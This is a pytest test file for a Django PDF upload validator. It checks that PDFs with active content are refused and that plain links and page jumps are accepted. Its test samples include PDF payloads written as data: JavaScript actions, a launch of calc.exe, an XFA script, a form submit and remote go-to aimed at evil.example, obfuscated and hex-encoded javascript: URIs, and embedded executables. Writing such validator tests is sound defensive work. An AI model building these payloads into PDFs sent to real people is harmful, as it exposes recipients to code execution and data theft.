"""PDFs with active content are refused by their structure (read with pypdf), not by patterns."""

import pytest
from django.core.exceptions import ValidationError

from bulletin.attachments import check_pdf
from tests.pdfs import pdf_with_xref_stream, stream

PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] /Annots [%s] >>"
XFA_SCRIPT = (
    b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="ready">'
    b'<xfa:script contentType="application/x-javascript">app.alert(1)</xfa:script>'
    b"</event></subform></template></xdp:xdp>"
)
XFA_PLAIN = (
    b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform/></template></xdp:xdp>'
)

ACTIVE = {
    "javascript": (b"/Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (a) >>] >> >>", []),
    "launch": (b"/OpenAction << /S /Launch /F (calc.exe) >>", []),
    "xfa with a script": (b"/AcroForm << /Fields [] /XFA [(template) 3 0 R] >>", [XFA_SCRIPT]),
    "submit form": (b"/OpenAction << /S /SubmitForm /F (https://evil.example/) >>", []),
    "import data": (b"/OpenAction << /S /ImportData /F (data.fdf) >>", []),
    "embedded files": (
        b"/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) "
        b"/EF << /F 3 0 R >> >>] >> >>",
        [b"MZ"],
    ),
    "file attachment annotation": (
        b"/OpenAction [3 0 R /Fit]",
        [PAGE % b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 5 5] /FS (a.exe) >>"],
    ),
    "go to embedded": (
        b"/OpenAction << /S /GoToE /D [0 /Fit] /T << /R /C /N (a.pdf) >> >>",
        [],
    ),
    "go to remote": (b"/OpenAction << /S /GoToR /F (//evil.example/x.pdf) /D [0 /Fit] >>", []),
    "javascript uri": (b"/OpenAction << /S /URI /URI ( JaVa\tScript:app.alert\\(1\\)) >>", []),
    "javascript uri in hex": (
        b"/OpenAction << /S /URI /URI <%s> >>" % b"javascript:alert(1)".hex().encode(),
        [],
    ),
    "rich media annotation": (
        b"/OpenAction [3 0 R /Fit]",
        [PAGE % b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 5 5] >>"],
    ),
}
HARMLESS = {
    "https link": (b"/OpenAction << /S /URI /URI (https://example.jp/) >>", []),
    "go to a page": (b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>", [PAGE % b""]),
    "xfa without a script": (b"/AcroForm << /Fields [] /XFA 3 0 R >>", [XFA_PLAIN]),
    "link annotation": (
        b"/OpenAction [3 0 R /Fit]",
        [
            PAGE
            % b"<< /Type /Annot /Subtype /Link /Rect [0 0 5 5] /A << /S /URI /URI (https://a.jp/) >> >>"
        ],
    ),
}


def build(catalog_extra, objects):
    return pdf_with_xref_stream(
        catalog_extra,
        [stream(obj) if obj.startswith((b"<xdp", b"MZ")) else obj for obj in objects],
    )


@pytest.mark.parametrize("kind", ACTIVE)
def test_active_content_is_refused(kind):
    with pytest.raises(ValidationError) as refused:
        check_pdf(build(*ACTIVE[kind]), "x.pdf")
    assert refused.value.code == "pdf_active_content"


@pytest.mark.parametrize("kind", HARMLESS)
def test_harmless_structures_are_accepted(kind):
    assert check_pdf(build(*HARMLESS[kind]), "x.pdf").content_type == "application/pdf"
